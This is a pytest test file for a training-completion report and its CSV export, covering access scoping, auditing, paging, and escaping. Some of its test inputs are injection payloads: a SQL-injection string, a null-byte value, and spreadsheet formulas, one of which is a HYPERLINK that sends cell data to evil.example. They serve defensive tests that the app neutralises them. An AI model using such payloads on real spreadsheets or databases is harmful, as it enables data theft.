"""The completion report as a manager has it: every figure opens its names, the file says what the pages say, and no more."""

import csv
import io
import re
from collections import Counter
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, replace
from datetime import UTC, date, datetime, timedelta
from types import MappingProxyType
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit
from uuid import UUID
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import Column, Engine, func, select, text, update
from sqlalchemy.orm import Session
from werkzeug.test import EnvironBuilder

from learn.app import Platform
from learn.domain.cycles import Standing, Status
from learn.domain.people import Access
from learn.services.people import appoint, end_job
from learn.store.audit import AuditEvent
from learn.store.columns import UtcDateTime
from learn.store.people import Lead, Team
from learn.store.tables import metadata
from tests.builders import a_module, a_quiz, a_role
from tests.conftest import Databases
from tests.pages import Browser, Page, etree, words_of
from tests.store import builders
from tests.store.crowds import Placed, a_crowd
from tests.store.rows import SECOND, put
from tests.store.snapshots import contents
from tests.web.people import Someone, a_person, days_ago, handed_over, in_team
from tests.web.platforms import MODULE, a_platform, a_small_catalogue, statements

PAGES, FILE = "/training/completion", "/training/completion.csv"
MODULES = ("listening", "recording", "referring", "reviews", "safety-planning")
ROLES = {"housing-officer": MODULES[:3], "gp-reception": MODULES[1:], "trustee": ()}
"""More modules than a page shows without scrolling, roles that share some of them, and one of which nothing is asked."""

LED, UNDER, DEEP, EMPTY = "Housing", "Housing options", "Housing advice", "Rough sleeping"
"""The team that is led, those under it, one of them under the other, and one of them without anybody."""


def today() -> date:
    """The day it is for the platform."""
    return datetime.now(ZoneInfo("Europe/London")).date()


# Reading pages and files ------------------------------------------------------------------------------------------------

Cells = dict[str, tuple[str, ...]]
Person = tuple[tuple[str, str], Cells]
"""Who somebody is, by name and by role and team; and what is said of each module, or, of one, what is said of it."""


def address(path: str = PAGES, /, **asked: Any) -> str:
    return path + (f"?{urlencode(asked)}" if asked else "")


def status_of(browser: Browser, path: str) -> int:
    """What answers to this address, once the whole reply has come."""
    reply = browser.get(path)
    reply.get_data()
    return reply.status_code


def followed(browser: Browser, path: str) -> Iterator[Page]:
    """The page at this address, and the next one, and so on to the last."""
    while True:
        assert browser.get(path).status_code == 200
        page = browser.shown
        yield page
        after = page.all("//a[@rel='next']/@href")
        if not after:
            return
        path = after[0]


def people_on(page: Page) -> list[Person]:
    """Who is listed on a page, in its order."""
    found = []
    for row in page.all("//table[@class='learn-report']/tbody/tr"):
        (head,), (about,) = row.xpath("th"), row.xpath("th/span")
        cells = {
            cell.get("data-label"): tuple(words_of(part) for part in (cell.xpath("*") or [cell])) for cell in row.xpath("td")
        }
        found.append(((head.text, words_of(about)), cells))
    return found


def listed(browser: Browser, path: str) -> list[Person]:
    """Who is listed on all pages."""
    return [person for page in followed(browser, path) for person in people_on(page)]


def names(browser: Browser, path: str = PAGES) -> list[str]:
    return [name for (name, _), _ in listed(browser, path)]


def lines_of(browser: Browser, path: str = FILE) -> list[dict[str, str]]:
    """The lines of a file, as any reader of CSV has them, without the apostrophes that keep formulas words."""
    reply = browser.get(path)
    assert (reply.status_code, reply.mimetype) == (200, "text/csv")
    raw = reply.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    lines = csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""), strict=True)
    return [{name: re.sub(r"^'(?=[=+\-@\t\r＝＋－＠])", "", value) for name, value in line.items()} for line in lines]


def people_in(lines: Sequence[dict[str, str]], *, one_module: bool) -> list[Person]:
    """What pages say of the people in a file, worked out from its lines alone."""
    found: list[Person] = []
    for line in lines:
        who = (line["Name"], ", ".join(line[each] for each in ("Role", "Team", "Agency") if each in line))
        if not found or found[-1][0] != who:
            found.append((who, {}))
        if one_module:
            found[-1][1].update({each: (in_words(line[each]) or "–",) for each in ("Due", "Completed", "Good until")})
            found[-1][1]["Status"] = (line["Status"],)
        elif line["Module"]:
            found[-1][1][line["Module"]] = (line["Status"], when(line))
    return found


def in_words(day: str) -> str:
    """A day as pages have it."""
    return f"{date.fromisoformat(day):%-d %b %Y}" if day else ""


def when(line: dict[str, str]) -> str:
    """What a page says beside a status, given the days of a file."""
    is_late = line["Status"] in ("Overdue", "Lapsed")
    if not line["Completed"]:
        return f"{'was due' if is_late else 'due'} {in_words(line['Due'])}"
    until = f", {'ran out' if is_late else 'good until'} {in_words(line['Good until'])}" if line["Good until"] else ""
    return f"done {in_words(line['Completed'])}{until}"


def figures(page: Page) -> dict[str, int]:
    """Every figure that is a link: its address, and how many people it speaks of."""
    found: dict[str, int] = {}
    for path in (
        "//p[@class='learn-headline']/a",
        "//div[@class='learn-picture']/table//td/a",
        "//table[@class='learn-bars']//td[@class='learn-bars__figures']/a",
    ):
        for link in page.all(path):
            number = first_number(words_of(link))
            assert found.setdefault(link.get("href"), number) == number, words_of(link)
    for row in page.all("//table[@class='learn-bars']/tbody/tr"):
        (all_of_them,) = row.xpath("th/a")
        done, of = (int(each) for each in re.findall(r"\d+", words_of(row.xpath("td[@class='learn-bars__figures']")[0]))[:2])
        assert done <= of
        found[all_of_them.get("href")] = of
    return found


def first_number(words: str) -> int:
    """The number that these words begin with, but for “All”."""
    found = re.match(r"(?:All )?([\d,]+)\b", words)
    assert found, words
    return int(found[1].replace(",", ""))


def loose_numbers(page: Page, people: int) -> list[str]:
    """Numbers among the figures that open nothing, but for shares and the number of all these people, who are listed below."""
    words = [str(each) for each in page.all("//p[@class='learn-headline']/text()")]
    words += page.texts("//div[@class='learn-picture']/table//td[not(a)]")
    words += page.texts("//table[@class='learn-bars']//td[@class='learn-bars__figures' and not(a)]")
    kinds = page.texts("//div[@class='learn-picture']/table//td/a")
    fair = [f"{people:,}", *(f"{round(100 * first_number(each) / people)}%" for each in kinds)]
    return [each for each in words if re.search(r"\d", each) and each not in fair]


# People and teams -------------------------------------------------------------------------------------------------------


@dataclass(frozen=True, kw_only=True)
class World:
    """A platform with a crowd on it, and the browser of somebody who leads three teams of it and an empty one."""

    platform: Platform
    browser: Browser
    people: Sequence[Placed]


@pytest.fixture(scope="module")
def world(databases: Databases, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """One world for all tests that only look. Its rows are the same on each database, and so are its pages."""
    url = databases.newest()
    shelf = [a_module(slug) for slug in MODULES]
    content = a_small_catalogue(
        modules={module.slug: module for module in shelf},
        quizzes={module.slug: a_quiz(module.slug) for module in shelf},
        roles={slug: a_role(slug, title=slug.capitalize()) for slug in ROLES},
        paths={},
    )
    platform = a_platform(url, tmp_path_factory.mktemp("instance"), content)
    teams = [in_team(platform, LED), *(in_team(platform, name, under=LED) for name in (UNDER, EMPTY))]
    teams += [in_team(platform, DEEP, under=UNDER), in_team(platform, "Adult care", agency="A charity")]
    with Session(platform.engine) as session:
        for team_id in teams:
            session.execute(update(Team).where(Team.id == team_id).values(uuid=UUID(int=team_id)))
        led, under, _, deep, elsewhere = teams
        people = a_crowd(session, (led, under, deep), ROLES, people=57, today=today())
        a_crowd(session, [elsewhere], ROLES, people=5, today=today(), first=100)
    grace = a_person(platform, "Grace Boateng", role=None)
    leads(platform, grace, led)
    yield World(platform=platform, browser=handed_over(platform, grace), people=people)
    platform.engine.dispose()
    databases.drop(url)


def leads(platform: Platform, someone: Someone, team_id: int, *, until: date | None = None) -> None:
    """Let somebody lead a team since a month ago."""
    with Session(platform.engine) as session:
        builders.a_lead(session, someone.person_id, team_id, started_on=days_ago(30), ended_on=until)


def uuid_of(platform: Platform, name: str) -> UUID:
    """The public id of the team with this name."""
    with Session(platform.engine) as session:
        return session.scalars(select(Team.uuid).where(Team.name == name)).one()


def a_leader(platform: Platform, *teams: str) -> Browser:
    """Somebody who works nowhere and leads these teams, signed in."""
    grace = a_person(platform, "Grace Boateng", role=None)
    for name in teams:
        leads(platform, grace, in_team(platform, name))
    return handed_over(platform, grace)


def audited(engine: Engine) -> list[tuple[int | None, str, str, str]]:
    """What is stored in the audit, for any connection to see."""
    with Session(engine) as session:
        events = session.scalars(select(AuditEvent).order_by(AuditEvent.id))
        return [(event.actor_id, event.act, event.subject, event.outcome) for event in events]


# Figures and names ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("team", [None, DEEP])
def test_every_figure_opens_a_list_of_exactly_so_many_people(world: World, team: str | None) -> None:
    start = address(team=uuid_of(world.platform, team)) if team else PAGES
    waiting, opened = {start: len(listed(world.browser, start))}, dict[str, int]()
    while waiting:
        path, number = waiting.popitem()
        pages = list(followed(world.browser, path))
        found = [person for page in pages for person in people_on(page)]
        assert (path, len(found)) == (path, number)
        assert len({name for (name, _), _ in found}) == len(found)
        assert (path, first_number(pages[0].text("//h2[@id='people']").rpartition(": ")[2])) == (path, number)
        assert (path, loose_numbers(pages[0], number)) == (path, [])
        kinds = [first_number(words) for words in pages[0].texts("//div[@class='learn-picture']/table//td/a")]
        assert kinds if "status" not in path else not kinds, path
        assert sum(kinds or [number]) == number
        opened[path] = number
        for link, told in figures(pages[0]).items():
            assert opened.get(link, told) == told, link
            if link not in opened:
                waiting[link] = told
    wanted: list[dict[str, str]] = [{}, *({"status": each.value} for each in Standing), *({"module": each} for each in MODULES)]
    wanted += [{"module": module, "status": "complete"} for module in MODULES]
    inside = {"team": str(uuid_of(world.platform, team))} if team else {}
    assert {address(**inside, **each) for each in wanted} <= opened.keys()
    assert {path for path in opened if "lapsed" in path and "module" in path}


NARROWED: list[dict[str, str]] = [
    {},
    {"team": UNDER},
    {"module": "listening"},
    {"module": "reviews", "status": "behind"},
    {"status": "complete"},
    {"status": "overdue"},
    {"team": DEEP, "module": "recording", "status": "complete"},
    {"team": DEEP, "status": "renew-soon"},
    {"module": "recording", "status": "lapsed"},
]


@pytest.mark.parametrize("asked", NARROWED, ids=lambda asked: " ".join(asked.values()) or "everything")
def test_the_file_says_what_the_pages_say_person_by_person_and_module_by_module(world: World, asked: dict[str, str]) -> None:
    given = {**asked, **({"team": str(uuid_of(world.platform, asked["team"]))} if "team" in asked else {})}
    lines = lines_of(world.browser, address(FILE, **given))
    shown = listed(world.browser, address(**given))
    assert shown
    asked_of = [(who, {title: said for title, said in cells.items() if said != ("Not required",)}) for who, cells in shown]
    assert asked_of == people_in(lines, one_module="module" in asked)
    assert {line["Module"] for line in lines if "module" in asked} <= {asked.get("module", "").capitalize()}


def test_the_file_that_a_page_offers_is_of_what_the_page_shows(world: World) -> None:
    narrowed = address(team=uuid_of(world.platform, UNDER), module="recording", status="behind")
    shown = names(world.browser, narrowed)
    (link,) = world.browser.shown.all("//a[@download]")
    assert link.get("href") == narrowed.replace(PAGES, FILE)
    assert words_of(link) == f"Download these {len(shown)} people for a spreadsheet (CSV)"
    assert Counter(line["Name"] for line in lines_of(world.browser, link.get("href"))) == Counter(shown)
    reply = world.browser.replies[-1]
    assert reply.headers["Content-Disposition"] == f'attachment; filename="completion-{today()}.csv"'


def test_the_file_is_of_all_pages_whatever_page_it_was_asked_from(world: World) -> None:
    assert lines_of(world.browser, address(FILE, page=2)) == lines_of(world.browser)


def test_each_of_a_crowd_is_on_one_page_and_the_pages_lead_to_each_other(world: World) -> None:
    pages = list(followed(world.browser, PAGES))
    assert [len(people_on(page)) for page in pages] == [50, 7]
    on_all = [name for page in pages for (name, _), _ in people_on(page)]
    assert Counter(on_all) == Counter(each.name for each in world.people)
    assert pages[1].all("//a[@rel='prev']/@href") == [f"{PAGES}?page=1#people"]
    for number, page in enumerate(pages, start=1):
        assert page.texts("//a[@aria-current='page']") == [str(number)]
        assert page.all("//nav[@aria-label='Pages of the list']//li/a/@href") == [f"{PAGES}?page={n}#people" for n in (1, 2)]


@pytest.mark.parametrize("number", ["3", "999999"])
def test_a_page_beyond_the_last_is_the_last(world: World, number: str) -> None:
    last = listed(world.browser, address(page=2))
    assert len(last) == 7
    assert listed(world.browser, address(page=number)) == last


def test_the_form_narrows_to_what_was_chosen_and_keeps_it_chosen(world: World) -> None:
    world.browser.get(PAGES)
    form = world.browser.shown.form("/completion")
    assert form.to_dict() == {"team": "", "module": "", "status": ""}
    everybody = listed(world.browser, address(**form.to_dict()))
    assert everybody == listed(world.browser, PAGES)
    teams = dict(
        zip(*(world.browser.shown.all(f"//select[@id='team']//option/{what}") for what in ("text()", "@value")), strict=True)
    )
    assert teams.keys() == {"All your teams", LED, UNDER, DEEP, EMPTY}
    chosen = {"team": teams[UNDER], "module": "recording", "status": "behind"}
    found = names(world.browser, address(**chosen))
    assert world.browser.shown.form("/completion").to_dict() == chosen
    under = {each.team_id for each in world.people} - {in_team(world.platform, LED)}
    due = [each for each in world.people if each.team_id in under and each.stands("recording", Standing.BEHIND, today())]
    assert Counter(found) == Counter(each.name for each in due)


# Whose people -----------------------------------------------------------------------------------------------------------


def test_a_manager_sees_their_own_teams_as_they_are_today_and_no_others(small_platform: Platform) -> None:
    teams = {"Led": in_team(small_platform, LED), "Under": in_team(small_platform, UNDER, under=LED)}
    teams |= {
        "Beside": in_team(small_platform, "Planning", agency="Planners"),
        "Elsewhere": in_team(small_platform, "Response", agency="Police"),
    }
    for name, team_id in teams.items():
        a_person(small_platform, f"Ann {name}", team_id=team_id)
    day, jobs = today(), {"Gone": (-9, 0), "Goes": (-9, 1), "Comes": (1, None), "Came": (0, None), "Long": (-9, -1)}
    for name, (start, end) in jobs.items():
        someone = a_person(small_platform, f"Ben {name}", role=None)
        with Session(small_platform.engine) as session:
            days = [None if each is None else day + timedelta(days=each) for each in (start, end)]
            builders.a_job(session, someone.person_id, teams["Led"], started_on=days[0] or day, ended_on=days[1])
    browser = a_leader(small_platform, LED)
    due = ["Ben Came", "Ben Goes", "Ann Led", "Ann Under"]
    assert names(browser) == due
    assert [line["Name"] for line in lines_of(browser)] == due
    everything = "".join(reply.get_data(as_text=True) for reply in browser.replies)
    assert not [name for name in ("Ann Beside", "Ann Elsewhere", "Ben Gone", "Ben Comes", "Ben Long") if name in everything]
    assert not [team for team in ("Planning", "Response", "Police") if team in everything]


def test_a_lead_that_ended_opens_nothing_any_more(small_platform: Platform) -> None:
    for name in (LED, "Planning"):
        a_person(small_platform, f"Ann {name}", team_id=in_team(small_platform, name, agency=name))
    browser = a_leader(small_platform, LED, "Planning")
    links = [address(path, team=uuid_of(small_platform, LED)) for path in (PAGES, FILE)]
    assert names(browser) == ["Ann Housing", "Ann Planning"]
    with Session(small_platform.engine) as session:
        session.execute(update(Lead).where(Lead.team_id == in_team(small_platform, LED)).values(ended_on=today()))
        session.commit()
    assert names(browser) == [line["Name"] for line in lines_of(browser)] == ["Ann Planning"]
    assert [status_of(browser, link) for link in links] == [404, 404]
    with Session(small_platform.engine) as session:
        session.execute(update(Lead).values(ended_on=today()))
        session.commit()
    assert [status_of(browser, path) for path in (PAGES, FILE)] == [404, 404]


def test_who_moves_or_leaves_drops_out_of_every_link_that_was_kept(small_platform: Platform) -> None:
    team, other = in_team(small_platform, LED), in_team(small_platform, "Planning", agency="Planners")
    people = {name: a_person(small_platform, name, team_id=team) for name in ("Ann Stays", "Ben Moves", "Cem Leaves")}
    browser, beside = a_leader(small_platform, LED), handed_over(small_platform, a_person(small_platform, "Dan Dale", role=None))
    narrowed = {"team": str(uuid_of(small_platform, LED)), "module": MODULE, "status": "not-started"}
    kept = [address(), address(**narrowed)]
    assert [len(names(browser, path)) for path in kept] == [3, 3]
    assert status_of(beside, PAGES) == 404
    with Session(small_platform.engine) as session:
        appoint(session, people["Ben Moves"].person_id, other, "housing-officer", small_platform.catalogue, on=today())
        end_job(session, people["Cem Leaves"].person_id, on=today())
        session.commit()
    assert [names(browser, path) for path in kept] == [["Ann Stays"], ["Ann Stays"]]
    assert [line["Name"] for line in lines_of(browser, address(FILE, **narrowed))] == ["Ann Stays"]


def test_a_member_without_a_team_of_their_own_finds_no_report(small_platform: Platform) -> None:
    browser = handed_over(small_platform, a_person(small_platform))
    before = len(audited(small_platform.engine))
    for path in (PAGES, FILE, address(team=uuid_of(small_platform, UNDER))):
        assert status_of(browser, path) == 404
        assert browser.shown.all("//a[contains(@href, 'completion')]") == []
    assert len(audited(small_platform.engine)) == before


NOWHERE: list[dict[str, Any]] = [
    {"team": UUID(int=0)},
    {"team": "Adult care"},
    {"team": "no-uuid"},
    {"team": "' OR 1=1 --"},
    {"team": "00000000-0000-0000-0000-00000000000"},
    {"module": "no-such-module"},
    {"module": "listening\0"},
    {"status": "no-such-status"},
    {"status": "Complete"},
    {"page": ""},
    {"page": "-1"},
    {"page": "1.5"},
    {"page": "two"},
    {"page": "²"},
    {"page": "٣"},
    {"page": "1000000"},
]


@pytest.mark.parametrize("path", [PAGES, FILE])
@pytest.mark.parametrize("asked", NOWHERE, ids=ascii)
def test_what_is_not_there_or_not_theirs_is_not_found_and_leaves_no_trace(world: World, path: str, asked: dict[str, Any]) -> None:
    given = {**asked, **({"team": uuid_of(world.platform, "Adult care")} if asked.get("team") == "Adult care" else {})}
    before = contents(world.platform.engine)
    assert status_of(world.browser, address(path, **given)) == 404
    assert world.browser.shown.heading == "There is nothing here"
    assert contents(world.platform.engine) == before


# What a manager may know ------------------------------------------------------------------------------------------------

CANARY = "canary"
LONG_AGO, FAR_AHEAD = date(1987, 6, 5), date(2987, 6, 5)
TIME_OF_DAY = datetime(1987, 6, 5, 3, 47, 11, tzinfo=UTC)
ID, NUMBER = 90_002, 70_707
PUBLIC_ID = UUID("cafecafe-cafe-4afe-8afe-cafecafecafe")
GIVEN_AWAY = re.compile(rf"{CANARY}|987|{ID}|{NUMBER}|cafecafe|\b\d\d?:\d\d\b", re.IGNORECASE)
"""What is planted in the fields that a manager never sees, and what a time of day looks like."""

SHOWN = MappingProxyType(
    {
        "agency.name": "Council of Elsewhere",
        "team.uuid": UUID(int=7),
        "team.name": "Night shift",
        "person.name": "Val Visible",
        "job.role": "housing-officer",
        "cycle.module": MODULE,
        "cycle.due_on": date(2099, 9, 9),
        "cycle.renewed_on": date(2020, 2, 2),
        "cycle.completed_on": None,
    }
)
"""Every field of the database that a report may show of somebody (SEC-26), with what it shows here."""

SAYS_NOTHING = MappingProxyType(
    {
        "answer.certainty": "guessing",
        "attempt.pass_percent": 97,
        "attempt.critical_missed": 0,
        "attempt.passed": True,
        "attempt.kind": "quiz",
        "content_post.post": "specialist",
        "content_step.kind": "module",
        "content_step.step": "reviewed",
        "content_version.kind": "question",
        "cycle.is_current": True,
        "cycle.is_delta": False,
        "cycle.whole_due_on": None,
        "module_change.days": 97,
        "module_change.kind": "material",
        "study.closed_at": None,
        "unsigned_use.kind": "module",
        "item.is_right": False,
        "letter.kind": "set-password",
        "person.access": "member",
        "person.is_active": True,
        "person.is_demonstration": False,
        "team.counted_on": None,
    }
)
"""The fields that take a few words only, so that nothing can be planted in them."""


def planted(column: Column[Any], above_id: int) -> Any:
    """What is put into this field."""
    name = f"{column.table.name}.{column.name}"
    known = {**SHOWN, **SAYS_NOTHING, "team.parent_id": above_id}
    if name in known:
        return known[name]
    if isinstance(column.type, UtcDateTime):
        return TIME_OF_DAY
    kind = column.type.python_type
    if kind is int:
        return ID if column.name == "id" or column.name.endswith("_id") else NUMBER
    if kind is date:
        return FAR_AHEAD if column.name == "ended_on" else LONG_AGO
    words = f"{CANARY} version" if column.name.endswith("version") else f"{CANARY} {name}"
    return {str: words, UUID: PUBLIC_ID}[kind]


def test_a_manager_sees_names_roles_teams_modules_statuses_and_days_and_nothing_else(small_platform: Platform) -> None:
    grace = a_person(small_platform, "Grace Boateng", leads=True)
    browser = handed_over(small_platform, grace)
    tables, above_id = [table for table in metadata.sorted_tables if table.name != "tally"], in_team(small_platform)
    with small_platform.engine.begin() as connection:
        for table in tables:
            row = {column.name: planted(column, above_id) for column in table.columns}
            assert row.keys() == SECOND[table.name].keys()
            put(connection, table, row)
    looks = _every_look(browser)
    found = [match[0] for look in looks for match in GIVEN_AWAY.finditer(look)]
    assert found == []
    assert sum("Val Visible" in look for look in looks) >= 8
    browser.get(address(team=SHOWN["team.uuid"]))
    (person,) = people_on(browser.shown)
    assert person == (
        ("Val Visible", "Housing officer, Night shift, Council of Elsewhere"),
        {"A module": ("Renew soon", "done 2 Feb 2020, good until 9 Sep 2099")},
    )
    assert lines_of(browser, address(FILE, team=SHOWN["team.uuid"])) == [
        {
            "Name": "Val Visible",
            "Role": "Housing officer",
            "Team": "Night shift",
            "Agency": "Council of Elsewhere",
            "Module": "A module",
            "Status": "Renew soon",
            "Due": "2099-09-09",
            "Completed": "2020-02-02",
            "Good until": "2099-09-09",
        }
    ]
    browser.get(address(module=MODULE))
    assert browser.shown.texts("//table[@class='learn-report']//th[@scope='col']") == [
        "Name",
        "Status",
        "Due",
        "Completed",
        "Good until",
    ]


def _every_look(browser: Browser) -> list[str]:
    """All that every view of the report shows, and every file of it: what can be read, and what stands in its source."""
    looks, waiting, opened = list[str](), {PAGES}, set[str]()
    waiting |= {address(status=choice) for choice in Status}
    while waiting:
        path = waiting.pop()
        opened.add(path)
        for page in followed(browser, path):
            looks.append(etree.tostring(page.all("//main")[0], encoding="unicode") + page.text("//head/title"))
            looks += [f"{name}: {value}" for name, value in page.reply.headers if name not in ("Set-Cookie", "Content-Length")]
            links = set(page.all("//main//a[not(@download)]/@href"))
            assert all(parse_qs(urlsplit(link).query).keys() <= {"team", "module", "status", "page"} for link in links)
            waiting |= {link for link in links if not link.startswith("#")} - opened
        looks.append(browser.get(path.replace(PAGES, FILE)).get_data(as_text=True))
    return looks


STRANGE = (
    "=1+1",
    "+44 20",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"Error")',
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    'Ann "Annie" Field',
    "Field, Ann",
    "Ann\nField",
    'Ann\r\nField, "A"',
    "O'Field",
    "<b>Ann</b> &amp; Co",
    "Żółć 李 🙂",
)


def test_strange_names_come_back_right_and_never_as_formulas(small_platform: Platform) -> None:
    renamed = {"housing-officer": replace(small_platform.catalogue.roles["housing-officer"], title="-Officer, +1")}
    assert isinstance(small_platform.catalogue.roles, dict)
    small_platform.catalogue.roles.update(renamed)
    team = in_team(small_platform, '=Team\t"1"', agency="@Agency")
    in_team(small_platform, UNDER, agency="Council")
    with Session(small_platform.engine) as session:
        for number, name in enumerate(STRANGE):
            person_id = builders.a_person(session, name, email=f"strange{number}@council.example")
            appoint(session, person_id, team, "housing-officer", small_platform.catalogue, on=days_ago(3))
            session.commit()
    browser = a_leader(small_platform, '=Team\t"1"', UNDER)
    reply = browser.get(FILE)
    cells = [
        cell for line in csv.reader(io.StringIO(reply.get_data().decode("utf-8-sig"), newline=""), strict=True) for cell in line
    ]
    assert len(cells) == 9 * (len(STRANGE) + 1)
    assert [cell for cell in cells if cell[:1] in tuple("=+-@\t\r＝＋－＠")] == []
    lines = lines_of(browser)
    assert Counter(line["Name"] for line in lines) == Counter(STRANGE)
    assert {(line["Role"], line["Team"], line["Agency"]) for line in lines} == {("-Officer, +1", '=Team\t"1"', "@Agency")}
    shown = [" ".join(name.split()) for name in names(browser)]
    assert Counter(shown) == Counter(" ".join(name.split()) for name in STRANGE)


# The audit --------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "act", "on_page"), [(PAGES, "see-completion", ", page 1"), (FILE, "export-completion", "")], ids=["page", "file"]
)
def test_each_look_and_each_file_leaves_one_line(world: World, path: str, act: str, on_page: str) -> None:
    under = uuid_of(world.platform, UNDER)
    with Session(world.platform.engine) as session:
        (grace,) = session.scalars(select(Lead.person_id))
    narrowed: dict[str, Any]
    for narrowed, said in (
        ({}, "teams led, module any, status any"),
        ({"team": under, "module": "recording", "status": "complete"}, f"team {under}, module recording, status complete"),
    ):
        before, began = audited(world.platform.engine), datetime.now(UTC)
        assert status_of(world.browser, address(path, **narrowed)) == 200
        after = audited(world.platform.engine)
        assert after[: len(before)] == before
        assert [line[:3] for line in after[len(before) :]] == [(grace, act, said + on_page)]
        with Session(world.platform.engine) as session:
            assert began <= session.scalars(select(func.max(AuditEvent.at))).one() <= datetime.now(UTC)


@pytest.mark.parametrize("path", [PAGES, FILE])
def test_the_line_is_stored_before_the_first_byte_is_sent(world: World, path: str) -> None:
    builder = EnvironBuilder(path=path, headers=[("Cookie", f"learn={world.browser.cookie()}")])
    before, told = len(audited(world.platform.engine)), list[tuple[str, int]]()

    def start_response(status: str, _headers: Any, _problem: Any = None) -> Any:
        told.append((status, len(audited(world.platform.engine)) - before))

    reply = world.platform(builder.get_environ(), start_response)
    assert told == [("200 OK", 1)]
    assert world.people[0].name in b"".join(reply).decode()
    getattr(reply, "close", lambda: None)()
    assert len(audited(world.platform.engine)) == before + 1


@pytest.mark.parametrize("path", [PAGES, FILE])
def test_what_the_audit_cannot_note_is_not_shown(small_platform: Platform, path: str) -> None:
    a_person(small_platform, "Ann Archer")
    browser = a_leader(small_platform, UNDER)
    with small_platform.engine.begin() as connection:
        connection.execute(text("ALTER TABLE audit_event RENAME TO audit_elsewhere"))
    reply = browser.get(path)
    assert (reply.status_code, reply.mimetype) == (500, "text/html")
    assert "Archer" not in reply.get_data(as_text=True)
    with small_platform.engine.begin() as connection:
        connection.execute(text("ALTER TABLE audit_elsewhere RENAME TO audit_event"))
    assert contents(small_platform.engine)["tally"] == []
    assert "Archer" in browser.get(path).get_data(as_text=True)


@pytest.mark.parametrize("path", [PAGES, FILE])
def test_looking_writes_its_line_and_the_tallies_of_the_day_and_nothing_else(small_platform: Platform, path: str) -> None:
    a_person(small_platform, "Ann Archer")
    browser = a_leader(small_platform, UNDER)
    changed = []
    for _ in range(2):
        before = contents(small_platform.engine)
        assert status_of(browser, path) == 200
        changed.append({table for table, rows in contents(small_platform.engine).items() if rows != before[table]})
    assert changed == [{"audit_event", "tally", "team"}, {"audit_event"}]


# Cost and empty places --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("access", Access)
def test_a_report_costs_as_many_statements_for_300_people_as_for_30(small_platform: Platform, access: Access) -> None:
    team, engine = in_team(small_platform), small_platform.engine
    grace = a_person(small_platform, "Grace Boateng", role=None, access=access)
    leads(small_platform, grace, team)
    browser = handed_over(small_platform, grace)
    costs, counted = list[list[int]](), list[int]()
    for people in (30, 270):
        with Session(engine) as session:
            a_crowd(session, [team], {"housing-officer": [MODULE]}, people=people, today=today(), first=people)
        cost = []
        for path in (PAGES, PAGES, FILE, address(module=MODULE, status="overdue"), address(FILE, module=MODULE)):
            with statements(engine) as run:
                assert status_of(browser, path) == 200
            cost.append(len(run))
        costs.append(cost)
        browser.get(PAGES)
        counted.append(first_number(browser.shown.text("//h2[@id='people']")))
    assert counted == [30, 300]
    assert costs[0] == costs[1]
    assert costs[0][0] > costs[0][1] > 0


def test_a_team_with_nobody_in_it_says_so(world: World) -> None:
    asked = {"team": str(uuid_of(world.platform, EMPTY))}
    world.browser.get(address(**asked))
    page = world.browser.shown
    assert page.text("//p[@class='learn-headline']") == f"Nobody works in {EMPTY} today."
    assert page.text("//h2[@id='people']") == f"0 people in {EMPTY}"
    assert page.text("//section[@aria-labelledby='people']/p")
    assert (figures(page), people_on(page), page.all("//a[@download]"), page.all("//main//svg")) == ({}, [], [], [])
    assert lines_of(world.browser, address(FILE, **asked)) == []


def test_a_list_that_finds_nobody_says_so_and_leads_back_to_everybody(small_platform: Platform) -> None:
    a_person(small_platform, "Ann Archer")
    browser = a_leader(small_platform, UNDER)
    for asked in ({"status": "lapsed"}, {"status": "complete"}, {"module": MODULE, "status": "up-to-date"}):
        browser.get(address(**asked))
        page = browser.shown
        assert people_on(page) == []
        assert page.text("//h2[@id='people']").endswith("0 of 1 person")
        told = page.text("//section[@aria-labelledby='people']/p")
        assert told.removesuffix("Show everybody")
        (back,) = page.all("//section[@aria-labelledby='people']/p/a/@href")
        assert lines_of(browser, address(FILE, **asked)) == []
        assert names(browser, back) == ["Ann Archer"]


def test_a_module_that_is_asked_of_nobody_in_a_team_says_so_and_stays_chosen(world: World) -> None:
    with Session(world.platform.engine) as session:
        trustees = in_team(world.platform, "Trustees", agency="Another charity")
        a_crowd(session, [trustees], {"trustee": ()}, people=2, today=today(), first=200)
    iain = handed_over(world.platform, a_person(world.platform, "Iain Macrae", role=None, access=Access.PARTNERSHIP))
    asked = {"team": str(uuid_of(world.platform, "Trustees")), "module": "listening", "status": ""}
    for status in ("", "behind"):
        iain.get(address(**{**asked, "status": status}))
        assert iain.shown.text("//p[@class='learn-headline']") == "Nobody in Trustees is asked to take “Listening”."
        assert iain.shown.form("/completion").to_dict() == {**asked, "status": status}
        assert people_on(iain.shown) == []
    assert lines_of(iain, address(FILE, **asked)) == []
